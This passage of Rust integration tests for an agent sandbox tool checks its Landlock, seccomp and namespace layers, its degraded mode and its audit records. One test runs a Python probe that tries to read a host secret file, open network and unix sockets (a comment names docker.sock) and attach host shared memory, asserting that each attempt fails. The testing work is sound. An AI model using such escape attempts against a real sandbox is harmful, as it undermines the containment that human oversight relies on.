        "extends = \"minimal\"\n[seccomp]\ndeny = [\"inotify_init1\"]\n",
    )
    .unwrap();
    let program =
        format!("{PY_PRELUDE}\nout('inotify_init1', sc(294, 0))\nout('inotify_init', sc(253))");
    let o = run_with(
        &ctx,
        &Opts {
            flags: &["--profile", profile.to_str().unwrap()],
            ..Opts::default()
        },
        &["/usr/bin/python3", "-c", &program],
    );
    let kv = kv(&o);
    assert_eq!(kv["inotify_init1"], "-1", "{}", describe(&o));
    assert_eq!(kv["inotify_init"], "-1", "{}", describe(&o));
}

#[test]
fn without_userns_run_refuses_unless_degraded_is_allowed() {
    let ctx = Ctx::new();
    let disable = [("ZT_AAS_TEST_DISABLE", "userns")];
    let o = run_with(
        &ctx,
        &Opts {
            env: &disable,
            ..Default::default()
        },
        &["sh", "-c", "echo ran"],
    );
    assert_eq!(o.status.code(), Some(125), "{}", describe(&o));
    assert!(o.stdout.is_empty(), "the agent ran: {}", describe(&o));
    let err = text(&o.stderr);
    assert!(
        err.contains("userns") && err.contains("--allow-degraded"),
        "{err}"
    );
    // A refused run leaves nothing behind: no audit log or key, no placeholder.
    let state = ctx.root.path().join("state");
    let left: Vec<_> = std::fs::read_dir(&state)
        .unwrap()
        .chain(std::fs::read_dir(&ctx.ws).unwrap())
        .filter_map(|e| e.ok().map(|e| e.path()))
        .collect();
    assert!(left.is_empty(), "a refused run made {left:?}");

    // Opted in: it runs, says so, and Landlock + seccomp still hold.
    let secret = ctx.root.path().join("secret.txt");
    std::fs::write(&secret, "secret").unwrap();
    // A host SysV shared memory segment: without an IPC namespace, only seccomp keeps it out of reach.
    struct Shm(i32);
    impl Drop for Shm {
        fn drop(&mut self) {
            // SAFETY: removing the segment this test made.
            unsafe { libc::shmctl(self.0, libc::IPC_RMID, std::ptr::null_mut()) };
        }
    }
    // SAFETY: shmget with no pointers.
    let shm = Shm(unsafe { libc::shmget(libc::IPC_PRIVATE, 4096, libc::IPC_CREAT | 0o666) });
    assert!(shm.0 >= 0, "shmget: {}", std::io::Error::last_os_error());
    let opts = Opts {
        env: &disable,
        flags: &["--allow-degraded"],
        ..Default::default()
    };
    let program = format!(
        "{PY_PRELUDE}\nout('secret', err(lambda: open({:?}).read()))\n\
         out('inet', err(socket.socket, socket.AF_INET, socket.SOCK_STREAM))\n\
         out('unix', err(socket.socket, socket.AF_UNIX, socket.SOCK_STREAM))\n\
         import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.shmat.restype = ctypes.c_long\n\
         r = libc.shmat({shm}, None, 0)\nout('shmat', ctypes.get_errno() if r == -1 else 0)\n\
         out('placeholder', int(os.path.exists({:?})))\nout('ran', 1)",
        secret.to_str().unwrap(),
        ctx.ws.join(".git").to_str().unwrap(),
        shm = shm.0,
    );
    let o = run_with(&ctx, &opts, &["/usr/bin/python3", "-c", &program]);
    let m = kv(&o);
    assert_eq!(num(&m, "ran"), 1);
    assert_eq!(
        num(&m, "secret"),
        libc::EACCES as i64,
        "Landlock must hide the host file: {m:?}"
    );
    assert_eq!(num(&m, "inet"), EAFNOSUPPORT, "{m:?}");
    // Without a network namespace or private root a unix socket could reach the host's (docker.sock).
    assert_eq!(num(&m, "unix"), EAFNOSUPPORT, "{m:?}");
    assert_eq!(
        num(&m, "shmat"),
        libc::EPERM as i64,
        "host shared memory: {m:?}"
    );
    assert_eq!(num(&m, "placeholder"), 0, "a placeholder was made: {m:?}");
    assert!(
        text(&o.stderr).to_lowercase().contains("degraded"),
        "degraded mode must be reported on stderr: {}",
        describe(&o)
    );
    // Without a mount namespace nothing can be bound read-only: the user is told which workspace files
    // the agent can write (also those that do not exist yet), and no placeholder is made for them.
    assert!(
        text(&o.stderr).contains(&format!(
            "NOT read-only for the agent: {}",
            ctx.ws.join(".git/hooks").display()
        )),
        "{}",
        describe(&o)
    );
    let left: Vec<String> = std::fs::read_dir(&ctx.ws)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        left.is_empty(),
        "degraded run left {left:?} in the workspace"
    );
    // ...and in the session record, in the vocabulary of the policy's `require`.
    let start = last_session_start(&ctx);
    assert_eq!(start["degraded"], true, "{start}");
    // (`cgroup` where this host lets the caller make one.)
    let layers: Vec<&serde_json::Value> = start["layers"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| *l != "cgroup")
        .collect();
    assert_eq!(
        layers,
        ["landlock", "seccomp", "caps-dropped", "no_new_privs"],
        "{start}"
    );
    assert_eq!(
        start["sandbox"]["missing"],
        serde_json::json!(["userns"]),
        "{start}"
    );
    // A full run names every layer.
    let o = run_with(&ctx, &Opts::default(), &["true"]);
    assert_eq!(o.status.code(), Some(0), "{}", describe(&o));
    let start = last_session_start(&ctx);
    assert_eq!(start["degraded"], false, "{start}");
    assert_eq!(start["profile"], "minimal", "{start}");
    let layers: Vec<&str> = start["layers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l.as_str().unwrap())
        .collect();
    for layer in [
        "userns",
        "landlock",
        "seccomp",
        "caps-dropped",
        "no_new_privs",
    ] {
        assert!(layers.contains(&layer), "{layer} missing: {start}");
    }
}

/// The last `session.start` record of the default audit log of `ctx`.
fn last_session_start(ctx: &Ctx) -> serde_json::Value {
    let log = std::fs::read_to_string(ctx.root.path().join("state/audit.jsonl")).unwrap();
    log.lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .rfind(|r| r["kind"] == "session.start")
        .expect("a session.start record")
}

#[test]
fn a_host_mount_beneath_a_profile_path_comes_along_read_only() {
    // A separate /usr/local (any mount beneath /usr) is locked in the sandbox's user namespace, and the
    // kernel refuses a bind of /usr that leaves it out: the launch failed. Made here in a mount
    // namespace of the test's own (so root is needed; CI runs as root).
    if !common::is_root() {
        eprintln!("skipped: making a mount needs root");
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let script = format!(
        "mount --make-rprivate / && mount -t tmpfs zt-test /usr/local && echo below > /usr/local/below && \
         XDG_STATE_HOME={ws}/state {zt} run -q --workspace {ws} -- \
           sh -c 'cat /usr/local/below; touch /usr/local/x 2>/dev/null && echo WROTE; echo RAN'",
        ws = ws.path().display(),
        zt = common::ZT,
    );
    let child = Command::new("unshare")
        .args(["-m", "sh", "-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let o = common::wait_bounded(child, &["unshare"]);
    let stdout = text(&o.stdout);
    assert!(
        stdout.contains("RAN") && stdout.contains("below"),
        "{}",
        describe(&o)
    );
    assert!(
        !stdout.contains("WROTE"),
        "the submount was writable: {}",
        describe(&o)
    );
}

/// `zt-aas doctor --json` as the given user (outside any sandbox).
fn doctor_outside(ctx: &Ctx) -> serde_json::Value {
    let bin = ctx.binary();
    let mut c = if ctx.setpriv() {
        common::setpriv_nobody(&bin)
    } else {
        Command::new(&bin)
    };
    let o = c.args(["doctor", "--json"]).output().unwrap();
    assert!(o.status.success(), "{}", describe(&o));
    serde_json::from_slice(&o.stdout).unwrap()
}

#[test]
fn doctor_tries_user_namespaces_for_real() {
    // This host has every layer, for root and for an unprivileged user.
    for user in [User::Caller, User::Nobody] {
        let report = doctor_outside(&Ctx::as_user(user));
        assert_eq!(report["userns"], true, "{report}");
        assert_eq!(report["landlock"], true, "{report}");
        assert_eq!(report["seccomp"], true, "{report}");
    }
    // Inside a sandbox, seccomp refuses a clone with CLONE_NEWUSER: the probe really tries it and says no.
    let ctx = Ctx::new();
    let o = run_in_sandbox(&ctx, "zt-aas doctor --json");
    assert!(o.status.success(), "{}", describe(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(report["userns"], false, "{report}");
    assert_eq!(report["full_sandbox"], false, "{report}");
}

#[test]
fn without_landlock_run_refuses_even_when_degraded_is_allowed() {
    let ctx = Ctx::new();
    let disable = [("ZT_AAS_TEST_DISABLE", "landlock")];
    for flags in [&[][..], &["--allow-degraded"][..]] {
        let o = run_with(
            &ctx,
            &Opts {
                env: &disable,
                flags,
                ..Default::default()
            },
            &["sh", "-c", "echo ran"],
        );
        assert_eq!(
            o.status.code(),
            Some(125),
            "flags {flags:?}: {}",
            describe(&o)
        );
        assert!(o.stdout.is_empty(), "the agent ran: {}", describe(&o));
        assert!(
            text(&o.stderr).to_lowercase().contains("landlock"),
            "{}",
            describe(&o)
        );
    }
}
